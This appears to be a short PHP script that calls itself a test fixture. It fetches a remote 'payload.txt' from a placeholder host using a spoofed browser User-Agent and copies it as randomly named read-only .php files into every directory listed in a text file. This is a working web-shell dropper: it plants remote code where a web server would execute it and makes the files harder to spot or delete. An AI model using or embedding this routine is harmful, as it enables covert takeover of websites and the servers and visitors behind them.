<?php
// test fixture: copies one remote file as randomly named PHP files into listed folders
function plant(array $sources, array $folders) {
    $opts = ['http' => ['header' => "User-Agent: Mozilla/5.0\r\n"]];
    $ctx = stream_context_create($opts);
    foreach ($sources as $src) {
        $body = @file_get_contents($src['url'], false, $ctx);
        foreach ($folders as $dir) {
            $dest = rtrim($dir, '/') . '/' . mt_rand(1000, 9999) . '.php';
            file_put_contents($dest, $body);
            chmod($dest, 0444);
        }
    }
}
plant([['url' => 'https://files.example.test/payload.txt']], file(__DIR__ . '/dirs.txt'));
